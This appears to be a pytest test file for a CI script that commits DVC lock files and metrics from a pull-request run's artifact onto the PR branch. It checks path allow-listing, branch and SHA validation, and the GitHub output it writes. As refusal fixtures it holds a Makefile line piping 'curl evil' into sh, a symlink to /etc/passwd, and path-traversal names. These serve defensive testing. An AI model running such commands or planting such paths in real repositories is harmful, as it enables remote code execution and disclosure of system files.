"""The lock commit lock.yml makes from a pull request run's artifact (scripts.gitops lock).

Real git: a bare origin, a checkout of main (what lock.yml runs in) and a PR branch; the
artifact is a folder as ``gh run download`` leaves it.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from scripts.ci.github import LOCK_TRAILER, LockRefused, lock_files, lock_refusals
from scripts.gitops import main

LOCKED = ["dvc.lock", "metrics.json", "reports/validation.json", "reports/plots"]
RULE = (
    "not one of the locked paths (dvc.lock, metrics.json, reports/validation.json, reports/plots)"
)


def git(cwd: Path, *args: str) -> str:
    result = subprocess.run(
        ["git", "-c", "user.name=dev", "-c", "user.email=dev@example.com", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
    )
    return result.stdout.strip()


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path | str]:
    """Origin with main and a PR branch ``improve``; the cwd is a fresh checkout of main."""
    author = tmp_path / "author"
    author.mkdir()
    git(author, "init", "-q", "-b", "main")
    for name, text in {
        "Makefile": "all:\n",
        "dvc.lock": "old\n",
        "metrics.json": "{}\n",
        "reports/plots/roc.json": "[1]\n",
        "reports/plots/old.json": "[0]\n",
    }.items():
        (author / name).parent.mkdir(parents=True, exist_ok=True)
        (author / name).write_text(text, encoding="utf-8")
    git(author, "add", "-A")
    git(author, "commit", "-q", "-m", "main")
    origin = tmp_path / "origin.git"
    git(tmp_path, "clone", "-q", "--bare", str(author), str(origin))
    git(author, "checkout", "-q", "-b", "improve")
    (author / "params.yaml").write_text("lr: 0.1\n", encoding="utf-8")
    git(author, "add", "-A")
    git(author, "commit", "-q", "-m", "improve")
    git(author, "push", "-q", str(origin), "improve")
    checkout = tmp_path / "checkout"
    git(tmp_path, "clone", "-q", f"file://{origin}", str(checkout))
    monkeypatch.chdir(checkout)
    return {"origin": origin, "author": author, "sha": git(author, "rev-parse", "HEAD")}


def artifact(root: Path, files: dict[str, str]) -> Path:
    """A downloaded lock artifact holding ``files``."""
    folder = root / "artifact"
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def lock(folder: Path, branch: str, sha: str) -> int:
    return main(["lock", "--run-artifact", str(folder), "--branch", branch, "--sha", sha, *LOCKED])


def origin_head(origin: Path, branch: str = "improve") -> str:
    return git(origin, "rev-parse", f"refs/heads/{branch}")


def test_only_the_locked_paths_and_what_lies_under_them_are_allowed() -> None:
    allowed = ["dvc.lock", "metrics.json", "reports/validation.json", "reports/plots/roc.json"]
    assert lock_refusals(allowed, LOCKED) == []
    refused = ["Makefile", ".github/workflows/x.yml", "reports/plotsX/a.json", "reports/a.json"]
    assert lock_refusals(refused, LOCKED) == [f"{name}: {RULE}" for name in refused]
    outside = ["reports/plots/../../Makefile", "reports/plots/.git/config"]
    assert lock_refusals(outside, LOCKED) == [
        f"{name}: not a path inside the repository's tree" for name in outside
    ]


def test_an_artifact_with_a_link_or_no_file_is_refused(tmp_path: Path) -> None:
    folder = artifact(tmp_path, {"dvc.lock": "new\n"})
    (folder / "metrics.json").symlink_to("/etc/passwd")
    with pytest.raises(LockRefused, match=r"metrics\.json: a link, not a file"):
        lock_files(folder, LOCKED)
    (tmp_path / "empty").mkdir()
    with pytest.raises(LockRefused, match="the artifact holds no file"):
        lock_files(tmp_path / "empty", LOCKED)


def test_the_lock_is_committed_on_the_head_the_run_trained(
    repository: dict[str, Path | str], tmp_path: Path
) -> None:
    origin, sha = Path(repository["origin"]), str(repository["sha"])
    files = {"dvc.lock": "new\n", "metrics.json": "{}\n", "reports/plots/roc.json": "[2]\n"}
    assert lock(artifact(tmp_path, files), "improve", sha) == 0
    head = origin_head(origin)
    assert git(origin, "rev-parse", f"{head}^") == sha
    assert LOCK_TRAILER in git(origin, "log", "-1", "--format=%B", head)
    # Exactly the artifact: a changed file, and the plots folder replaced whole.
    changed = git(origin, "diff", "--name-status", sha, head).splitlines()
    assert changed == ["M\tdvc.lock", "D\treports/plots/old.json", "M\treports/plots/roc.json"]
    assert git(origin, "show", f"{head}:dvc.lock") == "new"
    assert git(origin, "show", f"{head}:params.yaml") == "lr: 0.1"  # the branch's own


def test_a_file_outside_the_locked_paths_is_refused_and_nothing_is_pushed(
    repository: dict[str, Path | str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    origin, sha = Path(repository["origin"]), str(repository["sha"])
    files = {"dvc.lock": "new\n", "Makefile": "all:\n\tcurl evil | sh\n"}
    assert lock(artifact(tmp_path, files), "improve", sha) == 1
    assert f"refusing the run's lock artifact: Makefile: {RULE}" in capsys.readouterr().err
    assert origin_head(origin) == sha


def test_a_branch_that_moved_on_is_left_to_its_own_run(
    repository: dict[str, Path | str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    origin, author = Path(repository["origin"]), Path(repository["author"])
    trained = str(repository["sha"])
    (author / "params.yaml").write_text("lr: 0.2\n", encoding="utf-8")
    git(author, "commit", "-q", "-am", "a newer push")
    git(author, "push", "-q", str(origin), "improve")
    newer = origin_head(origin)
    assert lock(artifact(tmp_path, {"dvc.lock": "new\n"}), "improve", trained) == 0
    assert (
        f"is at {newer[:7]}, not at {trained[:7]} that the run trained" in capsys.readouterr().out
    )
    assert origin_head(origin) == newer


def test_an_unchanged_lock_commits_nothing(
    repository: dict[str, Path | str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    origin, sha = Path(repository["origin"]), str(repository["sha"])
    files = {
        "dvc.lock": "old\n",
        "reports/plots/roc.json": "[1]\n",
        "reports/plots/old.json": "[0]\n",
    }
    assert lock(artifact(tmp_path, files), "improve", sha) == 0
    assert "nothing to commit" in capsys.readouterr().out
    assert origin_head(origin) == sha


def test_a_lock_that_changes_again_after_ci_committed_it_is_not_committed_twice(
    repository: dict[str, Path | str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    origin = Path(repository["origin"])
    assert (
        lock(artifact(tmp_path / "first", {"dvc.lock": "new\n"}), "improve", str(repository["sha"]))
        == 0
    )
    ci_commit = origin_head(origin)
    assert lock(artifact(tmp_path / "second", {"dvc.lock": "newer\n"}), "improve", ci_commit) == 1
    assert "does not reproduce byte for byte" in capsys.readouterr().err
    assert origin_head(origin) == ci_commit


def test_the_default_branch_and_a_malformed_sha_are_refused(
    repository: dict[str, Path | str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    origin = Path(repository["origin"])
    main_head = origin_head(origin, "main")
    folder = artifact(tmp_path, {"dvc.lock": "new\n"})
    assert lock(folder, "main", main_head) == 1
    assert "--branch: expected a pull request's own branch, got 'main'" in capsys.readouterr().err
    assert lock(folder, "improve", "HEAD") == 1
    assert (
        "--sha: expected the 40-hex commit the run trained, got 'HEAD'" in capsys.readouterr().err
    )
    assert origin_head(origin, "main") == main_head


def test_lock_changes_tells_the_report_and_the_upload_step(
    repository: dict[str, Path | str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    report, output = tmp_path / "pr_report.md", tmp_path / "github_output"
    report.write_text("## report\n", encoding="utf-8")
    monkeypatch.setenv("GITHUB_OUTPUT", str(output))
    Path("dvc.lock").write_text("retrained\n", encoding="utf-8")
    assert main(["lock-changes", "--report", str(report), *LOCKED]) == 0
    written = output.read_text(encoding="utf-8")
    assert written.startswith("changed=true\n")
    assert f"paths<<GITOPS_PATHS\n{chr(10).join(LOCKED)}\nGITOPS_PATHS\n" in written
    assert "**dvc.lock:** repro changed dvc.lock and the metrics (1 file(s))" in report.read_text()
    git(Path.cwd(), "checkout", "-q", "--", "dvc.lock")
    output.unlink()
    assert main(["lock-changes", "--report", str(report), *LOCKED]) == 0
    assert output.read_text(encoding="utf-8").startswith("changed=false\n")
    assert report.read_text().endswith(
        "**dvc.lock:** dvc.lock and the metrics match this commit: nothing to commit.\n"
    )
